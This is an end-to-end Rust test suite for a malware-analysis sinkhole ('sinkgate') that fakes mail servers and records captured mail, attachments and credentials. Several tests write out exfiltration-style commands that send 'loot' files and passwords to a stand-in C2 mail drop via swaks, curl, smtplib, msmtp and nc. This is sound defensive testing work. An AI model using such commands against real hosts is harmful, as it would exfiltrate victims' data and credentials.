//! Mail, handed over by swaks, curl, msmtp, Python's smtplib and a shell.

use serde_json::{Value, json};
use testkit::programs::{Outcome, python, run, shell};
use testkit::{Direction, Gateway};

const SINKGATE: &str = env!("CARGO_BIN_EXE_sinkgate");

/// Nobody has this address: it is a mail server because all are.
const SERVER: &str = "203.0.113.25";

fn start(programs: &[&str], arguments: &[&str]) -> Option<Gateway> {
    Gateway::start(SINKGATE, programs, arguments)
}

/// Sends a mail by swaks, and must.
fn swaks(gateway: &Gateway, arguments: &[&str]) {
    let usual = ["--server", SERVER, "--from", "bot@victim.example", "--to", "drop@c2.example"];
    let outcome = run(&gateway.network.victim, "swaks", &[&usual, arguments].concat());
    assert!(outcome.status.success(), "swaks {arguments:?}: {outcome:?}");
    assert!(outcome.stdout.contains("Ok: queued as"), "swaks {arguments:?}: {outcome:?}");
}

/// What flows were known as, in the order it was found out, and how.
fn recognised(gateway: &Gateway) -> Vec<String> {
    gateway.database.texts(
        "SELECT (details ->> 'protocol') || ' by ' || (details ->> 'by') FROM event
         WHERE kind = 'flow.recognised' ORDER BY seq",
    )
}

#[test]
#[ignore = "end to end: needs root"]
fn swaks_hands_over_mail_on_every_port_in_the_clear() {
    let Some(gateway) = start(&["swaks"], &[]) else { return };
    for port in ["24", "25", "587", "2525", "2526"] {
        swaks(&gateway, &["--port", port, "--header", "Subject: ready"]);
    }
    swaks(&gateway, &["--protocol", "LMTP", "--port", "24"]);
    let mails = gateway.database.details("mail.message", 6);
    assert!(mails[..5].iter().all(|mail| mail["subject"] == "ready"), "{mails:?}");
    for mail in &mails {
        assert_eq!(mail["envelope_from"], "bot@victim.example");
        assert_eq!(mail["envelope_to"], json!(["drop@c2.example"]));
        assert_eq!(mail["is_whole"], true);
        assert!(mail["mailer"].as_str().unwrap().starts_with("swaks"), "{mail}");
    }
    assert!(recognised(&gateway).iter().all(|one| one == "smtp by port"));
}

#[test]
#[ignore = "end to end: needs root"]
fn swaks_hands_over_mail_inside_tls() {
    let Some(gateway) = start(&["swaks"], &[]) else { return };
    for port in ["25", "587", "2526"] {
        swaks(&gateway, &["--port", port, "--tls"]);
    }
    for port in ["465", "2465"] {
        swaks(&gateway, &["--port", port, "--tlsc"]);
    }
    for kind in ["mail.message", "tls.hello", "tls.established"] {
        gateway.database.expect_events(kind, 5);
    }
    gateway.database.expect(
        "SELECT protocol, count(*) AS count FROM flow_end GROUP BY protocol",
        &json!([{"protocol": "smtp", "count": 5}]),
    );
    let inside = gateway
        .database
        .number("SELECT count(DISTINCT flow) FROM payload WHERE layer = 1 AND direction = 0");
    assert_eq!(inside, 5);
}

#[test]
#[ignore = "end to end: needs root"]
fn swaks_logs_in_by_every_mechanism_it_has() {
    let Some(gateway) = start(&["swaks"], &["--set", "smtp.mechanisms=all"]) else { return };
    let mechanisms = ["PLAIN", "LOGIN", "CRAM-MD5", "CRAM-SHA1", "NTLM"];
    for mechanism in mechanisms {
        let login = ["--auth-user", "bot", "--auth-password", "s3cret"];
        swaks(&gateway, &[&["--auth", mechanism][..], &login].concat());
    }
    let given = gateway.database.details("credentials.given", mechanisms.len());
    for (given, mechanism) in given.iter().zip(mechanisms) {
        assert_eq!(given["mechanism"], mechanism.to_ascii_lowercase());
        // In NTLM the client takes the domain over that the server names.
        assert!(given["user"].as_str().unwrap().ends_with("bot"), "{given}");
    }
    assert_eq!((&given[0]["secret"], &given[1]["secret"]), (&json!("s3cret"), &json!("s3cret")));
    let secret = |place: usize| given[place]["secret"].as_str().unwrap();
    assert!(is_digest_of_s3cret(&gateway, secret(2)), "{given:?}");
    assert!(secret(3).starts_with("$cram_sha1$"));
    assert!(secret(4).starts_with("bot::"), "{given:?}");
}

/// Whether a guesser would find the password: the digest is made again from what was recorded.
fn is_digest_of_s3cret(gateway: &Gateway, hash: &str) -> bool {
    let script = format!(
        "import base64, hmac\n\
         _, form, challenge, answer = '{hash}'.split('$')\n\
         digest = hmac.new(b's3cret', base64.b64decode(challenge), 'md5').hexdigest()\n\
         print(form == 'cram_md5' and base64.b64decode(answer) == b'bot ' + digest.encode())"
    );
    python(&gateway.network.victim, &script).trim() == "True"
}

#[test]
#[ignore = "end to end: needs root"]
fn an_attachment_is_kept_byte_for_byte() {
    let Some(gateway) = start(&["swaks", "sha256sum"], &[]) else { return };
    let loot: Vec<u8> = (0..300_000_u32).map(|count| (count * 7 % 251) as u8).collect();
    let path = gateway.folder.written("loot.bin", &loot).display().to_string();
    swaks(&gateway, &["--attach-type", "application/x-loot", "--attach", &format!("@{path}")]);
    let hash = shell(&gateway.network.victim, &format!("sha256sum {path}")).stdout;
    let hash = hash.split_whitespace().next().unwrap().to_ascii_uppercase();
    gateway.database.expect(
        "SELECT source, name, media_type, bytes, hex(sha256) AS hash, completeness
         FROM artifact WHERE source = 'mail-attachment'",
        &json!([{
            "source": "mail-attachment", "name": "loot.bin", "media_type": "application/x-loot",
            "bytes": 300_000, "hash": hash, "completeness": "whole",
        }]),
    );
    let mails = gateway.database.details("mail.message", 1);
    assert_eq!(mails[0]["attachments"], json!(["loot.bin"]));
    gateway.database.expect(
        "SELECT part.part_of = whole.id AS is_part, whole.completeness FROM artifact AS part, artifact AS whole
         WHERE part.source = 'mail-attachment' AND whole.source = 'mail-message'",
        &json!([{"is_part": 1, "completeness": "whole"}]),
    );
}

#[test]
#[ignore = "end to end: needs root"]
fn curl_sends_mail_with_and_without_tls() {
    let Some(gateway) = start(&["curl"], &[]) else { return };
    let mail =
        "From: Bot <bot@victim.example>\nTo: x@c2.example\nSubject: =?utf-8?b?w7w=?=\n\nhi\n";
    let path = gateway.folder.written("mail.eml", mail.as_bytes()).display().to_string();
    let ends = "--mail-from bot@victim.example --mail-rcpt a@c2.example --mail-rcpt b@c2.example";
    for (url, options) in [
        ("smtp://203.0.113.25", "--user bot:s3cret"),
        ("smtp://203.0.113.25:587", "--user bot:s3cret --ssl-reqd -k"),
        ("smtps://203.0.113.25", "--user bot --oauth2-bearer t0k3n -k"),
        ("smtp://[2001:db8::25]:2525", ""),
    ] {
        let line =
            format!("curl -sSf --max-time 20 {url}/me {ends} {options} --upload-file {path}");
        shell(&gateway.network.victim, &line);
    }
    let mails = gateway.database.details("mail.message", 4);
    for mail in mails {
        assert_eq!((&mail["hello"], &mail["subject"]), (&json!("me"), &json!("ü")));
        assert_eq!(mail["envelope_to"], json!(["a@c2.example", "b@c2.example"]));
        assert_eq!(mail["text"].as_str().unwrap().trim(), "hi");
    }
    let given = gateway.database.details("credentials.given", 3);
    let secrets: Vec<&Value> = given.iter().map(|given| &given["secret"]).collect();
    assert_eq!(secrets, ["s3cret", "s3cret", "t0k3n"]);
}

#[test]
#[ignore = "end to end: needs root"]
fn smtplib_logs_in_and_sends_what_malware_sends() {
    let Some(gateway) = start(&["python3"], &[]) else { return };
    let script = format!(
        "import smtplib, ssl\n\
         from email.mime.multipart import MIMEMultipart\n\
         from email.mime.text import MIMEText\n\
         from email.mime.application import MIMEApplication\n\
         mail = MIMEMultipart()\n\
         mail['Subject'] = 'PW_jo/DESKTOP-1'\n\
         mail.attach(MIMEText('Zeit: jetzt \u{20ac}', 'html', 'utf-8'))\n\
         mail.attach(MIMEApplication(b'PK' + bytes(1000), Name='loot_\u{e4}.zip'))\n\
         context = ssl._create_unverified_context()\n\
         with smtplib.SMTP('{SERVER}', 587, timeout=20) as server:\n\
         \x20   server.starttls(context=context)\n\
         \x20   server.login('bot@victim.example', 's3cret')\n\
         \x20   server.sendmail('bot@victim.example', ['drop@c2.example'], mail.as_string())\n\
         with smtplib.SMTP_SSL('{SERVER}', 465, timeout=20, context=context) as server:\n\
         \x20   server.login('bot@victim.example', 's3cret')\n\
         \x20   server.sendmail('bot@victim.example', ['drop@c2.example'], mail.as_string())\n\
         with smtplib.SMTP('{SERVER}', 25, timeout=20) as server:\n\
         \x20   assert server.vrfy('root')[0] == 252, server.vrfy('root')\n\
         \x20   server.sendmail('', ['drop@c2.example'], 'Subject: x\\r\\n\\r\\n.\\r\\n..\\r\\n')\n"
    );
    python(&gateway.network.victim, &script);
    let mails = gateway.database.details("mail.message", 3);
    for mail in &mails[..2] {
        assert_eq!(mail["subject"], "PW_jo/DESKTOP-1");
        assert_eq!(mail["text"], "Zeit: jetzt \u{20ac}");
        assert_eq!(mail["attachments"], json!(["loot_\u{e4}.zip"]));
    }
    assert_eq!(
        (&mails[2]["envelope_from"], &mails[2]["text"]),
        (&json!(""), &json!(".\r\n..\r\n"))
    );
    for given in gateway.database.details("credentials.given", 2) {
        assert_eq!(
            (&given["user"], &given["secret"]),
            (&json!("bot@victim.example"), &json!("s3cret"))
        );
    }
}

/// Sends a mail by msmtp.
fn msmtp(gateway: &Gateway, options: &str) -> Outcome {
    let usual = format!("--host={SERVER} --from=bot@victim.example --timeout=20 --user=bot");
    let line = format!(
        "printf 'Subject: x\\n\\nhi\\n' | msmtp {usual} --passwordeval='echo s3cret' {options} \
         drop@c2.example"
    );
    run(&gateway.network.victim, "sh", &["-c", &line])
}

#[test]
#[ignore = "end to end: needs root"]
fn msmtp_logs_in_and_sends() {
    let Some(gateway) = start(&["msmtp"], &["--set", "smtp.mechanisms=all"]) else { return };
    for options in [
        "--port=25 --tls=off --auth=login",
        "--port=587 --tls=on --tls-certcheck=off --auth=on",
        "--port=465 --tls=on --tls-starttls=off --tls-certcheck=off --auth=xoauth2",
        "--port=2526 --tls=off --auth=ntlm",
    ] {
        let sent = msmtp(&gateway, options);
        assert!(sent.status.success(), "{options}: {sent:?}");
    }
    gateway.database.expect_events("mail.message", 4);
    let given = gateway.database.details("credentials.given", 4);
    let secrets: Vec<&str> = given.iter().map(|given| given["secret"].as_str().unwrap()).collect();
    assert_eq!(secrets[..3], ["s3cret"; 3]);
    assert!(secrets[3].starts_with("bot::"), "{given:?}");
}

#[test]
#[ignore = "end to end: needs root"]
fn logins_are_refused_where_that_is_set() {
    let Some(gateway) = start(&["msmtp"], &["--set", "smtp.accept=try 2"]) else { return };
    let refused = msmtp(&gateway, "--port=587 --tls=off --auth=login");
    assert!(!refused.status.success() && refused.stderr.contains("535"), "{refused:?}");
    assert_eq!(gateway.database.details("credentials.given", 1)[0]["secret"], "s3cret");
    assert!(gateway.database.details("mail.message", 0).is_empty());
}

#[test]
#[ignore = "end to end: needs root"]
fn other_protocols_on_a_port_of_mail_are_answered_as_what_they_are() {
    let Some(gateway) = start(&["curl"], &[]) else { return };
    let usual = ["-sSf", "-k", "--http1.1", "--max-time", "20", "--noproxy", "*"];
    for url in ["http://203.0.113.25:25/", "https://203.0.113.25:587/"] {
        let page = run(&gateway.network.victim, "curl", &[&usual[..], &[url]].concat());
        assert!(page.stdout.contains("<html"), "{url}: {page:?}");
    }
    gateway.database.expect_events("http.request", 2);
    let expected = ["http by content", "tls by content", "http by content"];
    assert_eq!(recognised(&gateway), expected);
}

#[test]
#[ignore = "end to end: needs root"]
fn a_proxy_leads_to_a_server_that_greets() {
    let Some(gateway) = start(&["curl"], &[]) else { return };
    let mail = gateway.folder.written("mail.eml", b"Subject: x\n\nhi\n").display().to_string();
    for proxy in ["socks5h://203.0.113.9:1080", "http://203.0.113.9:3128"] {
        let line = format!(
            "curl -sSf --max-time 20 --proxytunnel --proxy {proxy} smtp://mx.c2.example:25/me \
             --mail-from a@b.example --mail-rcpt c@d.example --upload-file {mail}"
        );
        shell(&gateway.network.victim, &line);
    }
    gateway.database.expect_events("mail.message", 2);
    let stream = gateway.database.stream(Direction::ToVictim, "dst_port = 1080");
    assert!(stream.windows(4).any(|bytes| bytes == b"220 "), "{}", stream.escape_ascii());
}

#[test]
#[ignore = "end to end: needs root"]
fn a_mail_that_is_cut_off_is_noted_all_the_same() {
    let Some(gateway) = start(&["nc"], &[]) else { return };
    let line = "printf 'HELO a\\r\\nMAIL FROM:<a@b>\\r\\nRCPT TO:<c@d>\\r\\nDATA\\r\\nSubject: cut\\r\\n\\r\\nhal' \
                | nc -N -w 5 203.0.113.25 25";
    shell(&gateway.network.victim, line);
    let mails = gateway.database.details("mail.message", 1);
    assert_eq!((&mails[0]["subject"], &mails[0]["is_whole"]), (&json!("cut"), &json!(false)));
    gateway.database.expect(
        "SELECT source, bytes, completeness FROM artifact",
        &json!([{"source": "mail-message", "bytes": 19, "completeness": "flow-ended"}]),
    );
}
